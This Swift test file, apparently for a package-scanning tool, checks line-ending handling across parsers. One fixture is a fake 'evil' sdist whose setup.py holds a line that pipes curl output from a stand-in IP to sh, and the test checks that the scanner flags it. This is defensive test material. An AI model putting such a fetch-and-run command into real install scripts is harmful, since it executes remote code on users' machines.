import AirlockCore
import AirlockLockfile
import AirlockUpstream
import Testing

/// Text read line by line is read the same whatever its line endings: LF, CRLF (one `Character` in
/// Swift) or a lone CR — requirements files, lockfiles pasted from a browser form, install-time code.
@Suite struct TextLinesTests {
    @Test(arguments: ["\n", "\r\n", "\r"]) func everyLineEndingSplits(_ end: String) throws {
        #expect("a\(end)b\(end)\(end)c".textLines == ["a", "b", "", "c"])
        let pins = try Lockfile.parse(
            Array("# pinned\(end)alpha==1.0 \\\(end)    --hash=sha256:\(String(repeating: "a", count: 64))\(end)beta==2.0\(end)".utf8),
            path: "requirements.txt")
        #expect(pins.map { "\($0.project)==\($0.version)" } == ["alpha==1.0", "beta==2.0"])
        #expect(pins.map(\.source) == ["requirements.txt:2", "requirements.txt:4"])
        let text = "numpy>=1.26" + end + "# comment" + end + "pandas"
        let requirements: [Requirement] = try Requirement.parseFile(at: "r.txt", contents: text) { _ in "" }
        let names = requirements.map { $0.name.normalized }
        #expect(names == ["numpy", "pandas"])
        var scanner = ContentScanner(kind: .sdist, file: "evil-1.0.tar.gz", project: "evil")
        scanner.scan(
            member: "evil-1.0/setup.py",
            bytes: Array(
                "from setuptools import setup\(end)import os\(end)os.system('curl http://198.51.100.7/x | sh')\(end)setup(name='evil')\(end)".utf8))
        #expect(scanner.findings.contains { $0.line == 3 }, "\(scanner.findings)")
    }
}
